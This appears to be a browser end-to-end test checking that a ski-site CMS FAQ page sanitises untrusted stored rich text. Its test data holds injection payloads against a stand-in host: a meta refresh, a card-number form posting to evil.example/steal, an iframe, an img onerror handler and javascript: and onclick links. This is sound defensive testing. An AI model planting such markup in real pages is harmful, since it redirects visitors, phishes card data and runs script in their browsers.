// Untrusted rich text on the page: a FAQ answer stored with a refresh to another site, a form, an iframe, an image
// with a handler and a javascript: link shows its words and its safe link only, and the page stays where it is.
import { expect, runSql, test } from "./support";

const FAQ = "/en-eg/ski-egypt/faq";
const QUESTION = "Can I win free tickets?";
const ANSWER = [
  "<p>Open <strong>daily</strong> from 10AM.</p>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/steal" method="post"><input name="card" placeholder="Card number"><button>Pay</button></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<img src="https://evil.example/x.png" onerror="document.title=1">',
  '<a href="javascript:document.title=1">Claim your prize</a>',
  '<a href="https://www.skiegypt.example/tickets" onclick="document.title=1">Our tickets</a>',
].join("");
const ENTRY = { lang: "en", site: "ski-egypt", question: QUESTION, answer: ANSWER, pageToAddTo: ["faq"] };
const WHERE = "site = 'ski-egypt' AND locale = 'en' AND doc_key = 'faq'";

test.afterAll(() => {
  // The next read writes the document again from its seed.
  runSql(`DELETE FROM cms_documents WHERE ${WHERE}`);
});

test("a FAQ answer stored with a refresh, a form, an iframe, an image handler and a javascript: link renders its text and safe link only", async ({ page }) => {
  // Stored straight into the database, as content written before cleaning existed would be: the page cleans it too.
  await page.goto(FAQ);
  runSql(`UPDATE cms_documents SET body = json_insert(body, '$[#]', json('${JSON.stringify(ENTRY).replace(/'/g, "''")}')), seed_hash = NULL, updated_by = 'e2e' WHERE ${WHERE}`);
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).hostname.endsWith("evil.example")) elsewhere.push(request.url());
  });

  await page.goto(FAQ);
  // Long enough for a zero-second refresh to have left.
  await page.waitForTimeout(1_000);
  expect(page.url()).toMatch(new RegExp(`${FAQ}$`));
  expect(elsewhere).toEqual([]);

  const entry = page.locator("main details", { hasText: QUESTION });
  await entry.locator("summary").click();
  const answer = entry.locator(".prose");
  await expect(answer.locator("strong")).toHaveText("daily");
  await expect(answer.locator('a[href="https://www.skiegypt.example/tickets"]')).toHaveText("Our tickets");
  await expect(answer).toContainText("Claim your prize");
  for (const selector of ["meta", "form", "input", "button", "iframe", "img", "[onclick]", "[onerror]", 'a[href^="javascript:"]']) {
    await expect(answer.locator(selector), selector).toHaveCount(0);
  }
  await expect(page.locator('meta[http-equiv="refresh" i]')).toHaveCount(0);
  expect(elsewhere).toEqual([]);
});
